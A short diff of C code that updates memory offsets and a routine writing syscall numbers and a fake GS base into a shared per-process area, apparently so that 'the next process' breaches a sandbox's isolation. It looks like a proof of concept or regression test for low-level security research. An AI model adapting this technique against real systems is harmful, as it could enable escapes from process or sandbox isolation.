@@ -127,7 +127,7 @@ static void breach(void) {
 }
 
 // Words of an area, from the layout of the platform.
-enum { state = 0x100, command = 0x110, kind = 0x114, rip = 128, orig_rax = 120, rdi = 112, rsp = 152, flags = 144, flags_at = 0x1a0 };
+enum { state = 0x100, command = 0x14c, kind = 0x104, rip = 128, number = 0x108, rdi = 0x110, rsp = 152, flags = 144, flags_at = 0x1a0 };
 
 // astray ends its process with a call that it only writes to its area, and sleeps
 // with a GS base that leads the next process to breach.
@@ -135,7 +135,7 @@ static void astray(void) {
 	heat();
 	uint64_t area = _readgsbase_u64(), sleep = code(SYS_getpid);
 	if (area < STUB) _exit(3);
-	*(volatile uint64_t *)(area + orig_rax) = SYS_exit_group;
+	*(volatile uint64_t *)(area + number) = SYS_exit_group;
 	*(volatile uint64_t *)(area + rdi) = 0;
 	*(volatile uint32_t *)(area + kind) = 1;
 	_writegsbase_u64(FAKE);
